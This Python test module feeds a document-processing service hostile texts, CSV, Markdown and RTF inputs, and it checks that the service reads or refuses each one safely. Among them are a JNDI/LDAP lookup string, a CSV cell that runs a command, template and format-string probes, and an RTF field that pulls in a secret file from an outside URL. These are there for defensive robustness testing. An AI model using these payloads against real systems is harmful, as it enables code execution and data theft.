"""Texts, tables, Markdown and RTF that are long, deep, or in no charset at all."""

from __future__ import annotations

from shared.errors import Code
from tests.services.docproc.hostile import lures
from tests.services.docproc.hostile.case import RIVER, Hostile, either, read, refused

CORRUPT, COMPLEX, TOO_LARGE, EMPTY = Code.CORRUPT, Code.TOO_COMPLEX, Code.TOO_LARGE, Code.EMPTY
_RIVER = RIVER.encode()
MILLION = 1_000_000


def _rtf(body: str) -> bytes:
    return f"{{\\rtf1\\ansi {RIVER} {body}}}".encode()


def _markdown(body: str) -> bytes:
    return f"{RIVER}\n\n{body}".encode()


def _csv(body: bytes) -> bytes:
    return b"name,words\n1," + _RIVER + b"\n" + body


PLAIN: tuple[Hostile, ...] = (
    refused("one line of 50 MB", "line.txt", lambda: b"river " * 8_400_000, TOO_LARGE),
    read("one word of 30,000 letters", "word.txt", lambda: _RIVER + b" " + b"a" * 30_000),
    read("one line of 30,000 words", "words.txt", lambda: _RIVER + b" river" * 30_000),
    read("a million empty lines", "blank.txt", lambda: b"\n" * MILLION + _RIVER),
    read("a letter under 5,000 accents", "accents.txt", (RIVER + " a" + "\u0301" * 5_000).encode),
    read(
        "a flood of characters without width",
        "width.txt",
        ("\u200b\u200c\u200d\u2060\ufeff" * 2_000 + RIVER).encode,
    ),
    read("a flood of marks of direction", "bidi.txt", ("\u202e\u202d\u2066\u2069\u200f" * 1_000 + RIVER).encode),
    read("a picture of a family of 2,000", "emoji.txt", (RIVER + " " + "\U0001f468\u200d" * 2_000).encode),
    read("UTF-7, which stays as it is", "utf7.txt", lambda: _RIVER + b" +ADw-script+AD4-", RIVER, "+ADw-script+AD4-"),
    read(
        "UTF-16 with halves of pairs",
        "utf16.txt",
        lambda: b"\xff\xfe" + f"{RIVER} ".encode("utf-16-le") + b"\x00\xd8" * 1_000 + b"a\0",
    ),
    read(
        "UTF-16 that is cut in the midst of a letter",
        "utf16.txt",
        lambda: b"\xff\xfe" + RIVER.encode("utf-16-le") + b"a",
    ),
    read(
        "UTF-32 beyond Unicode",
        "utf32.txt",
        lambda: b"\xff\xfe\0\0" + RIVER.encode("utf-32-le") + b"\xff\xff\xff\xff" * 99,
    ),
    read("overlong UTF-8", "utf8.txt", lambda: _RIVER + b" \xc0\xaf\xe0\x80\xaf\xf8\x88\x80\x80\x80"),
    read("every byte there is", "bytes.txt", lambda: _RIVER * 200 + bytes(range(128, 256)) * 20),
    read("changes of charset without end", "iso2022.txt", lambda: _RIVER + b"\x1b$B\x1b(B" * 3_000),
    read(
        "a charset that nobody can guess",
        "noise.txt",
        lambda: _RIVER * 40 + bytes(128 + n * 7 % 128 for n in range(9_999)),
    ),
    read("colours of a terminal, and its bell", "ansi.txt", lambda: _RIVER * 99 + b"\x1b[31m\x1b]0;x\x07" * 9),
    read("all kinds of line ends", "lines.txt", (RIVER + "\r\r\n\x0b\x0c\x85\u2028\u2029" * 5_000).encode),
    read(
        "what looks like a template",
        "template.txt",
        lambda: _RIVER + b"{{7*7}} ${jndi:ldap://%b/a} %%s %%n" % lures.address().encode(),
    ),
    read("a text that speaks of PDFs", "notes.txt", lambda: _RIVER + b" A file is told by `%PDF-` at its beginning."),
    read("a name without an end and no type", "README", lambda: _RIVER, declared="application/pdf; " + "x" * 5_000),
    read("a declared type of 100 kB", "x", lambda: _RIVER, declared="text/" + "html" * 25_000),
)

TABLES: tuple[Hostile, ...] = (
    read("a quote that never closes", "quote.csv", lambda: _csv(b'2,"' + b"river\n" * 5_000)),
    read("3,000 columns", "wide.csv", lambda: _csv(b",x" * 3_000)),
    read("a head of 3,000 columns", "wide.csv", lambda: b",x" * 3_000 + b"\n" + _RIVER),
    refused("nothing but a million commas", "commas.csv", lambda: b"," * MILLION, EMPTY),
    read(
        "formulas, which stay text",
        "formula.csv",
        lambda: _csv(b"=cmd|' /C calc'!A0,\"@SUM(1)\"\n+1,-2"),
        RIVER,
        "=cmd|' /C calc'!A0",
    ),
    either("NUL in the cells", "nul.csv", lambda: _csv(b"a\0b,c\n"), Code.UNSUPPORTED),
    refused("a cell of 2.4 million letters", "cell.csv", lambda: _csv(b'"' + b"x" * 2_400_000 + b'"'), TOO_LARGE),
    read("carriage returns in and out of quotes", "cr.csv", lambda: _csv(b'a\rb,"c\rd"\r\r\n"e')),
    read("quotes in the midst of words", "quotes.csv", lambda: _csv(b'a"b"c,""""""\n"x"y,"z' * 200)),
    read(
        "2,000 rows of other widths",
        "ragged.csv",
        lambda: _csv(b"\n".join(b"," * (n % 50) + b"x" for n in range(2_000))),
    ),
    read("lines of other kinds in the sample", "lines.csv", lambda: _csv('a\x85b\u2028c"\x0bd e,f\n'.encode() * 50)),
    read("cells that look like a table's frame", "frame.csv", lambda: _csv(b"| --- |,# a\n")),
    read("20,000 tabs", "tabs.tsv", lambda: b"a\tb\n" + _RIVER + b"\t" * 20_000),
)

MARKDOWN: tuple[Hostile, ...] = (
    read("5,000 brackets", "brackets.md", lambda: _markdown("[" * 5_000)),
    read("brackets that open links", "links.md", lambda: _markdown("[a](" * 2_000)),
    read("pictures in links in pictures", "pictures.md", lambda: _markdown("![[" * 2_000 + "](" * 2_000)),
    read("5,000 stars", "stars.md", lambda: _markdown("*" * 5_000)),
    read("stars and lines, in turn", "stars.md", lambda: _markdown("*a_" * 2_000)),
    read("5,000 quotations", "quotes.md", lambda: _markdown(">" * 5_000 + "a")),
    read(
        "quotations that deepen, line by line",
        "quotes.md",
        lambda: _markdown("\n".join(">" * n + "a" for n in range(300))),
    ),
    read(
        "lists that deepen, line by line",
        "lists.md",
        lambda: _markdown("\n".join("  " * n + "- a" for n in range(200))),
    ),
    read("3,000 lists on one line", "lists.md", lambda: _markdown("- " * 3_000 + "a")),
    read("backticks in every number", "ticks.md", lambda: _markdown(" ".join("`" * n for n in range(1, 150)))),
    read("a fence that never closes", "fence.md", lambda: _markdown("```\n" + "river\n" * 5_000)),
    read("2,000 names of links", "names.md", lambda: _markdown("\n".join(f"[a{n}]: <b" for n in range(2_000)))),
    read("5,000 headings", "headings.md", lambda: _markdown("# a\n" * 5_000)),
    read("headings of 60 kB", "headings.md", lambda: _markdown("# " + "river " * 10_000 + "\nx\n" + "=" * 10_000)),
    read("tags that never close", "tags.md", lambda: _markdown("<a " * 3_000 + "<!-- " * 1_000 + "<?" * 1_000)),
    read(
        "tables of 1,000 columns",
        "tables.md",
        lambda: _markdown("|a" * 1_000 + "\n" + "|-" * 1_000 + "\n" + "|b" * 1_000),
    ),
    read("entities and escapes", "escapes.md", lambda: _markdown("&amp;\\*" * 5_000)),
    read("a front matter that never closes", "front.md", lambda: b"---\n" + b"a: &a [*a]\n" * 500 + _RIVER),
    refused("more chunks than anybody wants", "chunks.md", ("\U00012000 " * 100_000).encode, TOO_LARGE),
)

RTF: tuple[Hostile, ...] = (
    read("100,000 groups within each other", "deep.rtf", lambda: _rtf("{" * 100_000)),
    read("groups that close what nobody opened", "close.rtf", lambda: _rtf("}" * 100_000)),
    read("binary data that lies about its length", "bin.rtf", lambda: _rtf("\\bin999999999999 x")),
    read("binary data of a length below zero", "bin.rtf", lambda: _rtf("\\bin-5 x")),
    either("characters beyond Unicode", "unicode.rtf", lambda: _rtf("\\u99999999? \\u-99999? \\u1114112?"), CORRUPT),
    read("halves of pairs", "unicode.rtf", lambda: _rtf("\\u55357? \\u-10179?")),
    read("a skip of 10^9 characters behind each", "skip.rtf", lambda: _rtf("\\uc999999999\\u8364?")),
    either(
        "a charset that nobody knows",
        "charset.rtf",
        f"{{\\rtf1\\ansicpg99999 {RIVER} \\'e9}}".encode,
        CORRUPT,
    ),
    either(
        "fonts in charsets that nobody knows",
        "fonts.rtf",
        lambda: _rtf("{\\fonttbl{\\f0\\fcharset999 x;}}\\f0 \\'e9\\f7 \\'e9"),
        CORRUPT,
    ),
    read("hex that is none", "hex.rtf", lambda: _rtf("\\'zz\\'")),
    read(
        "an object of 1 MB",
        "object.rtf",
        lambda: _rtf("{\\object{\\*\\objdata " + "d0cf11e0" * 125_000 + "}}"),
        hides=("d0cf11e0",),
    ),
    read(
        "a picture that never ends",
        "picture.rtf",
        lambda: _rtf("{\\pict\\pngblip " + "89504e47" * 10_000),
        hides=("89504e47",),
    ),
    read(
        "fields that reach out",
        "field.rtf",
        lambda: _rtf(f'{{\\field{{\\*\\fldinst INCLUDETEXT "{lures.secret_file()}" {lures.url()}}}{{\\fldrslt x}}}}'),
        hides=(lures.SECRET,),
    ),
    read("control words of 100 kB", "word.rtf", lambda: _rtf("\\" + "a" * 100_000 + " x")),
    either(
        "numbers of 10,000 digits",
        "digits.rtf",
        lambda: _rtf("\\fs" + "9" * 10_000 + " \\u" + "9" * 10_000 + "? x"),
        CORRUPT,
    ),
    either("text of 2.4 million letters", "long.rtf", lambda: _rtf("river " * 400_000), TOO_LARGE),
    refused("nothing but its beginning", "begin.rtf", lambda: b"{\\rtf1", EMPTY, CORRUPT),
    read("a million control words", "words.rtf", lambda: _rtf("\\b0\\i0" * 300_000)),
)

CASES = PLAIN + TABLES + MARKDOWN + RTF
